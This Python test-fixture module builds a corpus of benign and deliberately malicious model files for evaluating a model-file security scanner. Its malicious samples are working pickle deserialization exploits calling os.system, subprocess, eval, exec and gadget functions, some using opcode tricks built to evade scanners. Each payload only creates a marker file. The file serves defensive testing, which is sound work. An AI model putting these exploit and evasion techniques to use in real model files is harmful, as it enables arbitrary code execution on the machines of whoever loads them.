"""A generated corpus of benign and malicious model files (no downloads, harmless payloads).

Every malicious payload, if it were ever loaded, would only create the marker file passed in;
the tests assert that the marker never appears. Files are written by pickling objects whose
``__reduce__`` names a dangerous callable (pickling never calls it) or by writing opcodes
directly. Nothing here loads what it writes.

``build(directory, marker)`` returns {relative path: expected} where expected is "malicious" or
"benign". Used by tests/files and bench/models.py.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import zipfile
import zlib
from collections import OrderedDict
from datetime import datetime
from pathlib import Path
from typing import Any

TORCH_MAGIC = 0x1950A86A20F9469CFC6C


class Reduce:
    """Pickles as ``func(*args)`` without ever calling it."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> Any:
        return (self.func, self.args)


def _u(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def _cmd(marker: Path) -> str:
    return f"touch {marker}"


# -- hand-written opcode streams ----------------------------------------------------------
def p0_global(module: str, name: str, arg: str) -> bytes:
    return f"c{module}\n{name}\n(S'{arg}'\ntR.".encode()


def p4_stack_global(module: str, name: str, arg: str) -> bytes:
    return b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00" + _u(module) + b"\x94" + _u(name) + b"\x94\x93\x94" + _u(arg) + b"\x85R."


def memo_stack_global(arg: str) -> bytes:
    # Strings stored with BINPUT, then fetched with BINGET right before STACK_GLOBAL.
    return (b"\x80\x04" + _u("os") + b"q\x05" + _u("system") + b"q\x06" + b"0" + b"0"
            + b"h\x05h\x06\x93" + _u(arg) + b"\x85R.")


def memoize_vs_put_confusion(arg: str) -> bytes:
    # BINPUT index 0 then MEMOIZE: the MEMOIZE writes index 1 (len of memo), not 0.
    return (b"\x80\x04" + _u("builtins") + b"q\x00" + _u("posix") + b"\x94" + b"0" + b"0"
            + b"h\x01" + _u("system") + b"\x93" + _u(arg) + b"\x85R.")


def computed_module(arg: str) -> bytes:
    # The module name is the result of a call (str('os')) made at load time.
    return (b"\x80\x04" + _u("builtins") + _u("str") + b"\x93" + _u("os") + b"\x85R" + _u("system")
            + b"\x93" + _u(arg) + b"\x85R.")


def inst_opcode(arg: str) -> bytes:
    return f"(S'{arg}'\nios\nsystem\n.".encode()


def obj_opcode(arg: str) -> bytes:
    return f"(cos\nsystem\nS'{arg}'\no.".encode()


def newobj_ex(arg: str) -> bytes:
    return b"\x80\x04" + _u("subprocess") + _u("Popen") + b"\x93" + _u(arg) + b"\x85}\x92."


def ext_code() -> bytes:
    return b"\x80\x02\x82\x07)R."


def build_state_setattr(arg: str) -> bytes:
    # BUILD with a state that sets __setstate__ = os.system, a known gadget.
    return (b"\x80\x02" + b"cbuiltins\nobject\n)\x81" + b"N}" + b"U\x0c__setstate__cos\nsystem\ns\x86b"
            + b"U" + bytes([len(arg)]) + arg.encode() + b"b.")


def torch_rebuild_pickle(protocol_body: bytes = b"") -> bytes:
    """A benign PyTorch data.pkl: OrderedDict of one tensor rebuilt from a persistent storage id."""
    return (
        b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01X\x06\x00\x00\x00weightq\x02"
        b"ctorch._utils\n_rebuild_tensor_v2\nq\x03((X\x07\x00\x00\x00storageq\x04ctorch\nFloatStorage\nq\x05"
        b"X\x01\x00\x00\x000q\x06X\x03\x00\x00\x00cpuq\x07K\x04tq\x08QK\x00K\x04\x85K\x01\x85\x89"
        b"ccollections\nOrderedDict\nq\t)Rq\ntq\x0bRq\x0cs" + protocol_body + b"."
    )


def sklearn_like() -> bytes:
    return (b"\x80\x04" + _u("sklearn.linear_model._base") + _u("LinearRegression") + b"\x93)\x81}"
            + _u("coef_") + b"G?\xf0\x00\x00\x00\x00\x00\x00sb.")


def torch_zip(payload_pkl: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", payload_pkl)
        zf.writestr("archive/byteorder", "little")
        zf.writestr("archive/data/0", b"\x00" * 16)
        zf.writestr("archive/version", "3\n")
    return buf.getvalue()


def torch_legacy(main_pickle: bytes) -> bytes:
    magic = pickle.dumps(TORCH_MAGIC, protocol=2)
    return (magic + pickle.dumps(1001, protocol=2) + pickle.dumps({"protocol_version": 1001}, protocol=2)
            + main_pickle + pickle.dumps(["0"], protocol=2) + struct.pack("<q", 4) + b"\x00" * 16)


def keras_zip(config: dict[str, Any]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 32)
    return buf.getvalue()


def dense(name: str) -> dict[str, Any]:
    return {"module": "keras.layers", "class_name": "Dense", "config": {"name": name, "units": 4}}


def keras_config(layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": layers}}


def lambda_layer() -> dict[str, Any]:
    return {"module": "keras.layers", "class_name": "Lambda",
            "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}}}}


def safetensors_file() -> bytes:
    header = json.dumps({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}, "__metadata__": {"format": "pt"}}).encode()
    return struct.pack("<Q", len(header)) + header + b"\x00" * 16


def gguf_file() -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 0)


def onnx_file() -> bytes:
    producer = b"auditor-test"
    graph = b"\x0a\x00"  # a graph message with an empty node field
    return (b"\x08\x08" + b"\x12" + bytes([len(producer)]) + producer + b"\x3a" + bytes([len(graph)]) + graph
            + b"\x42\x04\x0a\x00\x10\x11")


def npy_bytes(array: Any) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=True)
    return buf.getvalue()


def build(directory: Path, marker: Path) -> dict[str, str]:
    import numpy as np

    directory.mkdir(parents=True, exist_ok=True)
    cmd = _cmd(marker)
    expected: dict[str, str] = {}

    def put(name: str, data: bytes, verdict: str) -> None:
        path = directory / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        expected[name] = verdict

    evil = Reduce(os.system, cmd)
    # Raw pickles, every protocol, odd extensions.
    for proto in range(6):
        put(f"mal/os_system_p{proto}.pkl", pickle.dumps({"model": evil}, protocol=proto), "malicious")
        put(f"ok/data_p{proto}.pkl", pickle.dumps({"a": [1, 2.5, "x"], "b": {1, 2}, "c": OrderedDict(k=1),
                                                   "d": datetime(2026, 1, 1), "e": b"\x00\x01"}, protocol=proto), "benign")
    import argparse
    import subprocess
    import webbrowser

    for proto in (0, 1):  # plain classes go through copyreg._reconstructor and builtins.object
        put(f"ok/namespace_p{proto}.pkl", pickle.dumps(argparse.Namespace(a=1, b="x"), protocol=proto), "benign")

    put("mal/subprocess.bin", pickle.dumps(Reduce(subprocess.Popen, ["touch", str(marker)]), 2), "malicious")
    put("mal/eval.sav", pickle.dumps(Reduce(eval, f"__import__('os').system('{cmd}')"), 4), "malicious")
    put("mal/exec.data", pickle.dumps(Reduce(exec, f"import os; os.system('{cmd}')"), 3), "malicious")
    put("mal/webbrowser.pkl", pickle.dumps(Reduce(webbrowser.open, "http://127.0.0.1:9/"), 4), "malicious")
    put("mal/py2_builtin_eval.pkl", p0_global("__builtin__", "eval", "1+1"), "malicious")
    put("mal/alias_posixpath_os.pkl", p4_stack_global("posixpath", "os.system", cmd), "malicious")
    put("mal/alias_random_os.pkl", p4_stack_global("random", "_os.system", cmd), "malicious")
    put("mal/builtins_via_module.pkl", p4_stack_global("collections", "__builtins__.eval", "1"), "malicious")
    put("mal/importlib.pkl", p4_stack_global("importlib", "import_module", "antigravity"), "malicious")
    put("mal/runpy.pkl", p4_stack_global("runpy", "run_path", "/dev/null"), "malicious")
    put("mal/timeit_gadget.pkl", p4_stack_global("timeit", "timeit", f"__import__('os').system('{cmd}')"), "malicious")
    put("mal/doctest_gadget.pkl", p4_stack_global("doctest", "debug_script", f"import os; os.system('{cmd}')"), "malicious")
    put("mal/marshal.pkl", p4_stack_global("marshal", "loads", "x"), "malicious")
    put("mal/memo_stack_global.pkl", memo_stack_global(cmd), "malicious")
    put("mal/memoize_put_confusion.pkl", memoize_vs_put_confusion(cmd), "malicious")
    put("mal/computed_module.pkl", computed_module(cmd), "malicious")
    put("mal/inst.pkl", inst_opcode(cmd), "malicious")
    put("mal/obj.pkl", obj_opcode(cmd), "malicious")
    put("mal/newobj_ex.pkl", newobj_ex(cmd), "malicious")
    put("mal/ext_code.pkl", ext_code(), "malicious")
    put("mal/build_setstate.pkl", build_state_setattr(cmd), "malicious")
    put("mal/concatenated.pkl", pickle.dumps([1, 2], 4) + pickle.dumps(evil, 4), "malicious")
    put("mal/torch_hub.pkl", p4_stack_global("torch.hub", "load", "attacker/repo"), "malicious")
    put("mal/numpy_load.pkl", p4_stack_global("numpy", "load", "x.npy"), "malicious")
    # Containers.
    put("mal/model.pt", torch_zip(pickle.dumps({"w": evil}, 2)), "malicious")
    put("ok/model.pt", torch_zip(torch_rebuild_pickle()), "benign")
    put("mal/legacy.pth", torch_legacy(pickle.dumps({"w": evil}, 2)), "malicious")
    put("ok/legacy.pth", torch_legacy(torch_rebuild_pickle()), "benign")
    put("ok/estimator.pkl", sklearn_like(), "benign")
    put("mal/object_array.npy", npy_bytes(np.array([evil, 1], dtype=object)), "malicious")
    put("ok/array.npy", npy_bytes(np.arange(12, dtype=np.float32).reshape(3, 4)), "benign")
    npz = io.BytesIO()
    np.savez(npz, a=np.arange(3), b=np.array([evil], dtype=object))
    put("mal/arrays.npz", npz.getvalue(), "malicious")
    npz = io.BytesIO()
    np.savez_compressed(npz, a=np.arange(300), b=np.ones((4, 4)))
    put("ok/arrays.npz", npz.getvalue(), "benign")
    for proto in (2, 4, 5):
        put(f"ok/ndarray_p{proto}.pkl", pickle.dumps({"w": np.arange(50, dtype=np.float64), "i": np.int64(3)}, protocol=proto), "benign")
    try:
        import joblib
    except ImportError:
        joblib = None
    if joblib is not None:
        for name, compress in (("plain", 0), ("zlib", ("zlib", 3)), ("gzip", ("gzip", 3)), ("bz2", ("bz2", 3)),
                               ("xz", ("xz", 3)), ("lzma", ("lzma", 3))):
            buf = io.BytesIO()
            joblib.dump({"coef": np.arange(1000, dtype=np.float64), "payload": evil}, buf, compress=compress)
            put(f"mal/joblib_{name}.joblib", buf.getvalue(), "malicious")
            buf = io.BytesIO()
            joblib.dump({"coef": np.arange(1000, dtype=np.float64), "names": np.array(["a", None], dtype=object),
                         "n": 3}, buf, compress=compress)
            put(f"ok/joblib_{name}.joblib", buf.getvalue(), "benign")
    # Keras.
    nested = keras_config([dense("d1"), {"module": "keras", "class_name": "Functional",
                                          "config": {"layers": [{"class_name": "TimeDistributed", "module": "keras.layers",
                                                                 "config": {"layer": lambda_layer()}}]}}])
    put("mal/nested_lambda.keras", keras_zip(nested), "malicious")
    put("mal/module_ref.keras", keras_zip(keras_config([{"module": "os", "class_name": "system", "config": {"command": cmd}}])), "malicious")
    put("ok/model.keras", keras_zip(keras_config([dense("d1"), dense("d2")])), "benign")
    try:
        import h5py
    except ImportError:
        h5py = None
    if h5py is not None:
        for name, cfg, verdict in (("mal/lambda.h5", keras_config([dense("d"), lambda_layer()]), "malicious"),
                                   ("ok/model.h5", keras_config([dense("d")]), "benign")):
            path = directory / name
            with h5py.File(path, "w") as h5:
                h5.attrs["model_config"] = json.dumps(cfg)
                h5.create_dataset("w", data=np.zeros(4))
            expected[name] = verdict
    # Nested archive: a zip inside a zip holding a pickle.
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as zf:
        zf.writestr("weights.bin", pickle.dumps(evil, 4))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as zf:
        zf.writestr("bundle/inner.zip", inner.getvalue())
    put("mal/nested.zip", outer.getvalue(), "malicious")
    # Compressed raw pickles.
    put("mal/pickle.gz", gzip.compress(pickle.dumps(evil, 4)), "malicious")
    put("mal/pickle.bz2", bz2.compress(pickle.dumps(evil, 4)), "malicious")
    put("mal/pickle.xz", lzma.compress(pickle.dumps(evil, 4)), "malicious")
    put("mal/pickle.zlib", zlib.compress(pickle.dumps(evil, 4)), "malicious")
    # Safe formats.
    put("ok/model.safetensors", safetensors_file(), "benign")
    put("ok/model.gguf", gguf_file(), "benign")
    put("ok/model.onnx", onnx_file(), "benign")
    return expected
